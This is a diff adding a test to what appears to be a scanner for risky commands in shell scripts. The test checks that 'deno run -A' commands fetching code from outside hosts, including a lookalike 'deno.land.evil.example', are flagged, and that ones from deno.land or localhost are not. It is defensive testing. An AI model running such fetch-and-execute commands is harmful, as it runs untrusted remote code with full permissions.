@@ -256,3 +256,12 @@ def test_attack_a_package_or_program_from_a_bare_address_is_found(command, rule)
 )
 def test_packages_of_a_vendor_and_addresses_as_arguments_have_no_severe_finding(command):
     assert not severe(f"{command}\n", "scripts/a.sh")
+
+
+def test_a_program_that_an_interpreter_runs_from_an_address_is_found_except_from_a_registry_or_this_machine():
+    def rules(command):
+        return {each.rule for each in scan(Tree({"scripts/a.sh": File(command.encode())}))} & {"SH105", "SH114"}
+
+    assert rules("deno run -A https://vendor.example/a.ts") == {"SH114"}
+    assert rules("deno run -A https://deno.land.evil.example/a.ts") == {"SH114"}
+    assert not rules("deno run https://deno.land/std/a.ts && deno run -A http://localhost:8000/a.ts")
